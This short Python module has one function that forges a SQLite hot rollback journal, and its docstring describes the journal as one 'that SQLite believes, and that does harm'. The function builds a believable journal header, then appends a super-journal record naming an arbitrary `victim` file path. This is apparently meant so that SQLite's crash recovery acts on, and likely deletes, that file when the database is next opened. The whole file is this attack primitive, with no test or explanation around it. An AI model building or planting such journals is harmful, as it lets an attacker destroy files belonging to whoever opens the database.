"""A journal that SQLite believes, and that does harm."""

from __future__ import annotations

import struct
from pathlib import Path


def hot_journal(database: Path, victim: Path) -> bytes:
    """The journal of an unfinished change to several databases, whose common record is said to be `victim`."""
    magic, sector, page = bytes.fromhex("d9d505f920a163d7"), 512, 4096
    name = str(victim).encode()
    head = (magic + struct.pack(">IIIII", 0, 7, database.stat().st_size // page, sector, page)).ljust(sector, b"\0")
    record = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name))
    return head + record + magic
